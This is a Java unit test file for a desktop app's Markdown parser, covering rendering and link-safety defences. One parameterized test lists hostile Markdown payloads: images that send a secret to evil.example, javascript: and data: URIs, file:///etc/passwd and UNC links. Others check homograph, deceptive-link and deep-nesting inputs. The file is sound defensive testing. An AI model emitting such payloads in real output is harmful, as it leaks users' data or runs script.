package studio.athanor.desktop.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import studio.athanor.desktop.markdown.Leaf.Content;
import studio.athanor.desktop.markdown.Span.Mark;

class MarkdownTest {

    /** A document, and what it becomes: one line a leaf, as {@link #sketch} writes it. */
    static Stream<List<String>> cases() {
        return Stream.of(
                List.of("", ""),
                List.of("plain", "p plain"),
                List.of("one\ntwo", "p one⏎two"),
                List.of("one\n\ntwo", "p one|p two"),
                List.of("# A\n### B", "h1 A|h3 B"),
                List.of("a **b** *c* ~~d~~ `e`", "p a <b>b</b> <i>c</i> <s>d</s> <c>e</c>"),
                List.of("***x***", "p <bi>x</bi>"),
                List.of("- a\n- b", "[•]p a|[•]p b"),
                List.of("3. a\n4. b", "[3.]p a|[4.]p b"),
                List.of("- a\n\n  more\n- b", "[•]p a|[]p more|[•]p b"),
                List.of("- a\n  - b\n    - c", "[•]p a|[][•]p b|[][][•]p c"),
                List.of("- [ ] a\n- [x] b", "[☐]p a|[☑]p b"),
                List.of("> a\n>\n> b", ">p a|>>p b"),
                List.of("> - a", ">[•]p a"),
                List.of("```java\nint a;\n```", "code(java) int a;"),
                List.of("```python title=x\n1\n```", "code(python) 1"),
                List.of("    indented", "code() indented"),
                List.of("```\nopen", "code() open"),
                List.of("a | b\n--|--\n1 | 2", "table a,b;1,2"),
                List.of("a | b\n--|--\n1", "table a,b;1,"),
                List.of("---", "rule"),
                List.of("<b>x</b>", "p <b>x</b>".replace("<b>", "‹b›").replace("</b>", "‹/b›")),
                List.of("<div>\nx\n</div>", "p ‹div›⏎x⏎‹/div›"),
                List.of("\\(a_b*c*d_e\\)", "p \\(a_b*c*d_e\\)"),
                List.of("$$a*b*c$$", "p $$a*b*c$$"),
                List.of("\\*not\\*", "p *not*"),
                List.of("&amp; &lt;", "p & ‹"),
                List.of("- ", "[•]p "),
                List.of("a  \nb", "p a⏎b"));
    }

    @ParameterizedTest
    @MethodSource("cases")
    void readsWhatIsWritten(List<String> given) {
        assertThat(sketch(Markdown.parse(given.get(0)))).isEqualTo(given.get(1));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![](https://evil.example/?d=secret)",
                "![alt][r]\n\n[r]: https://evil.example/?d=secret",
                "<img src=\"https://evil.example/?d=secret\">",
                "<div style=\"background: url(https://evil.example/x)\">",
                "<svg><image href=\"https://evil.example/x\"/></svg>",
                "<https://evil.example/?d=secret>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](file:///etc/passwd)",
                "[x](\\\\host\\share)",
                "[x](mailto:a@evil.example)",
                "[x](data:text/html,<script>)",
                "[x](//evil.example/a)",
                "[x](http:///a)",
                "[x](https://)"
            })
    void opensOnlyHttpAndHttpsAndOnlyAsText(String payload) {
        for (Leaf leaf : Markdown.parse(payload)) {
            for (Span span : spans(leaf)) {
                span.link().ifPresent(link -> assertThat(link).startsWith("https://evil.example/"));
            }
        }
    }

    @Test
    void writesTheHostBesideALinkThatHidesIt() {
        assertThat(Span.text(spans(Markdown.parse("[my bank](https://bank.example@evil.example/x)")
                        .getFirst())))
                .isEqualTo("my bank (evil.example)");
        assertThat(Span.text(spans(Markdown.parse("[https://bank.example](https://evil.example)")
                        .getFirst())))
                .isEqualTo("https://bank.example (evil.example)");
    }

    @Test
    void showsTheTargetOfALinkThatCannotBeOpened() {
        Leaf leaf = Markdown.parse("[x](javascript:alert(1))").getFirst();
        assertThat(Span.text(spans(leaf))).isEqualTo("x (javascript:alert(1))");
        assertThat(spans(leaf)).noneMatch(span -> span.link().isPresent());
    }

    @Test
    void showsAHostOfForeignLettersInAscii() {
        assertThat(LinkTarget.of("https://аpple.example/").host())
                .hasValueSatisfying(host -> assertThat(host).startsWith("xn--"));
    }

    @Test
    void findsBareAddressesWithoutThePunctuationBehindThem() {
        Leaf leaf = Markdown.parse("See https://a.example/b, or (http://c.example).")
                .getFirst();
        assertThat(spans(leaf).stream().map(Span::link).flatMap(Optional::stream))
                .containsExactly("https://a.example/b", "http://c.example");
    }

    @Test
    void makesInvisibleDirectionMarksVisibleInCode() {
        assertThat(Markdown.parse("```\nif (a\u202E) {}\n```").getFirst().text())
                .isEqualTo("if (a‹U+202E›) {}");
    }

    @Test
    void boundsDeepNesting() {
        assertThat(Markdown.parse(">".repeat(10_000) + " deep")).isNotEmpty();
        assertThat(Markdown.parse("- ".repeat(5_000) + "deep")).isNotEmpty();
        assertThat(Markdown.parse("*a ".repeat(5_000))).isNotEmpty();
        assertThat(Markdown.parse("[".repeat(20_000))).isNotEmpty();
        assertThat(Markdown.parse("**".repeat(20_000))).isNotEmpty();
        assertThat(Markdown.parse("\\(".repeat(20_000))).isNotEmpty();
        for (Leaf leaf : Markdown.parse("> ".repeat(1_000) + "deep")) {
            assertThat(leaf.gutters()).hasSizeLessThanOrEqualTo(10);
        }
    }

    @Test
    void cutsWhatIsTooBigToLayOut() {
        List<Leaf> lines = Markdown.parse("```java\n" + "int a = 1;\n".repeat(90_000) + "```");
        assertThat(lines).hasSizeGreaterThan(1_000);
        assertThat(lines).allSatisfy(leaf -> assertThat(leaf.text().length()).isLessThanOrEqualTo(4_000));
        List<Leaf> line = Markdown.parse("x".repeat(1_000_000));
        assertThat(line).allSatisfy(leaf -> assertThat(leaf.text().length()).isLessThanOrEqualTo(6_000));
        assertThat(Markdown.parse("y".repeat(5_000_000)).stream()
                        .mapToInt(leaf -> leaf.text().length())
                        .sum())
                .isEqualTo(5_000_000);
        String table = "a|b\n-|-\n" + "1|2\n".repeat(50_000);
        assertThat(Markdown.parse(table).getFirst().content()).isInstanceOf(Content.Code.class);
    }

    @Test
    void givesBackACodeBlockAsItWasWritten() {
        String code = "a\n\n" + "long ".repeat(2_000) + "\nend\n\n\nlast";
        assertThat(Leaf.text(Markdown.parse("```\n" + code + "\n```"))).isEqualTo(code);
    }

    static List<Span> spans(Leaf leaf) {
        return switch (leaf.content()) {
            case Content.Prose prose -> prose.spans();
            case Content.Table table ->
                table.rows().stream()
                        .flatMap(List::stream)
                        .flatMap(List::stream)
                        .toList();
            case Content.Code _, Content.Rule _ -> List.of();
        };
    }

    static String sketch(List<Leaf> leaves) {
        StringBuilder out = new StringBuilder();
        for (Leaf leaf : leaves) {
            out.append(out.isEmpty() ? "" : "|");
            for (Leaf.Gutter gutter : leaf.gutters()) {
                out.append(
                        switch (gutter) {
                            case Leaf.Gutter.Quote quote -> quote.joined() ? ">>" : ">";
                            case Leaf.Gutter.Item item -> "[" + item.marker() + "]";
                        });
            }
            out.append(sketch(leaf.content()));
        }
        return out.toString();
    }

    private static String sketch(Content content) {
        return switch (content) {
            case Content.Rule _ -> "rule";
            case Content.Code code -> "code(" + code.language() + ") " + code.text();
            case Content.Table table ->
                "table " + table.text().replace('\t', ',').replace('\n', ';');
            case Content.Prose prose -> {
                StringBuilder out = new StringBuilder(
                        switch (prose.kind()) {
                            case PARAGRAPH -> "p ";
                            case PLAIN -> "plain ";
                            default -> "h" + prose.kind().name().substring("HEADING_".length()) + " ";
                        });
                prose.spans().forEach(span -> out.append(sketch(span)));
                yield out.toString();
            }
        };
    }

    private static String sketch(Span span) {
        String marks = span.marks().stream()
                .sorted()
                .filter(mark -> mark != Mark.LINK && mark != Mark.MUTED)
                .map(mark -> mark.name().substring(0, 1).toLowerCase(java.util.Locale.ROOT))
                .reduce("", String::concat);
        String text = span.text().replace("<", "‹").replace(">", "›").replace('\n', '⏎');
        return marks.isEmpty() ? text : "<" + marks + ">" + text + "</" + marks + ">";
    }
}
